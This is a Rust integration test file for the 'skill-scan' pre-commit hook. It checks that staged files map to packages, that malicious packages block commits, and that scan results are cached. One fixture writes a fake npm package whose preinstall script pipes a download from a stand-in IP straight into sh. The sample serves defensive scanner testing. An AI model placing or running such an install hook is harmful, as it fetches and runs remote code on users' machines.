#![allow(clippy::unwrap_used, clippy::expect_used)]
//! `skill-scan pre-commit FILE...`: staged files map to their packages, each scanned once.

use assert_cmd::Command;
use predicates::prelude::*;
use std::fs;
use std::path::Path;

/// The hook uses the content cache by default: keep it out of the user's own cache folder.
fn skill_scan() -> Command {
    let mut command = Command::cargo_bin("skill-scan").expect("binary builds");
    command.env(
        "XDG_CACHE_HOME",
        std::env::temp_dir().join("skill-scan-tests-pre-commit-cache"),
    );
    command
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().expect("has parent")).expect("mkdir");
    fs::write(path, text).expect("write");
}

fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "packages/evil/package.json",
        r#"{"name": "left-padder", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://198.51.100.4/p.sh | sh"}}"#,
    );
    write(root, "packages/evil/lib/index.js", "module.exports = 1;\n");
    write(
        root,
        "skills/notes/SKILL.md",
        "---\nname: notes\ndescription: Keeps notes.\n---\nWrite notes to notes.md.\n",
    );
    write(
        root,
        "skills/notes/scripts/fmt.sh",
        "#!/bin/sh\nfmt notes.md\n",
    );
    write(root, "README.md", "# my skills\n");
    dir
}

#[test]
fn a_staged_file_of_a_malicious_package_refuses_the_commit_with_reasons() {
    let dir = repo();
    skill_scan()
        .current_dir(dir.path())
        .args([
            "pre-commit",
            "packages/evil/lib/index.js",
            "skills/notes/scripts/fmt.sh",
        ])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("packages/evil (npm)"))
        .stdout(predicate::str::contains("verdict: BLOCK"))
        .stdout(predicate::str::contains("reasons:"))
        .stdout(predicate::str::contains("skills/notes (skill)"));
}

#[test]
fn benign_packages_pass_and_nothing_staged_is_a_pass() {
    let dir = repo();
    skill_scan()
        .current_dir(dir.path())
        .args([
            "pre-commit",
            "skills/notes/SKILL.md",
            "skills/notes/scripts/fmt.sh",
        ])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("skills/notes (skill)"))
        .stdout(predicate::str::contains("packages/evil").not());
    skill_scan()
        .current_dir(dir.path())
        .arg("pre-commit")
        .assert()
        .code(0)
        .stdout("");
}

#[test]
fn a_file_outside_every_package_is_scanned_alone_not_the_whole_repository() {
    let dir = repo();
    // The repository holds a malicious package elsewhere; changing the README must not rescan (and
    // refuse) everything: the README is judged on its own.
    skill_scan()
        .current_dir(dir.path())
        .args(["pre-commit", "--quiet", "README.md", "docs/missing.md"])
        .assert()
        .code(0)
        .stdout("ALLOW  README.md (unknown): 0 findings\n");
}

#[test]
fn when_the_repository_root_is_a_package_a_root_file_scans_it() {
    let dir = repo();
    write(
        dir.path(),
        "package.json",
        r#"{"name": "monorepo", "version": "1.0.0", "private": true}"#,
    );
    skill_scan()
        .current_dir(dir.path())
        .args(["pre-commit", "--quiet", "README.md"])
        .assert()
        .code(1)
        .stdout(predicate::str::starts_with("BLOCK  . ("));
}

#[test]
fn the_hook_reuses_the_result_of_an_unchanged_package_from_the_cache() {
    let dir = repo();
    let cache = tempfile::tempdir().unwrap();
    let run = |extra: &[&str]| {
        let out = skill_scan()
            .current_dir(dir.path())
            .env("XDG_CACHE_HOME", cache.path())
            .args(["pre-commit", "--no-config", "--format", "json"])
            .args(extra)
            .arg("skills/notes/SKILL.md")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        (
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8(out.stderr).unwrap(),
        )
    };
    let (first, note) = run(&[]);
    assert!(note.contains("0 hit(s), 1 miss(es)"), "{note}");
    assert!(cache.path().join("skill-scan").is_dir());
    let (second, note) = run(&[]);
    assert!(note.contains("1 hit(s), 0 miss(es)"), "{note}");
    let targets =
        |json: &str| serde_json::from_str::<serde_json::Value>(json).unwrap()["targets"].clone();
    assert_eq!(targets(&first), targets(&second));
    // A changed file of the package is a miss.
    write(
        dir.path(),
        "skills/notes/scripts/fmt.sh",
        "#!/bin/sh\nfmt -w 80 notes.md\n",
    );
    let (_, note) = run(&[]);
    assert!(note.contains("0 hit(s), 1 miss(es)"), "{note}");
    // `--no-cache` turns it off.
    let (_, note) = run(&["--no-cache"]);
    assert!(!note.contains("content cache"), "{note}");
}

#[test]
fn the_config_can_turn_the_hooks_cache_off() {
    let dir = repo();
    let cache = tempfile::tempdir().unwrap();
    write(dir.path(), "skill-scan.toml", "cache = false\n");
    let out = skill_scan()
        .current_dir(dir.path())
        .env("XDG_CACHE_HOME", cache.path())
        .args(["pre-commit", "skills/notes/SKILL.md"])
        .output()
        .unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(!stderr.contains("content cache"), "{stderr}");
    assert!(!cache.path().join("skill-scan").exists());
}
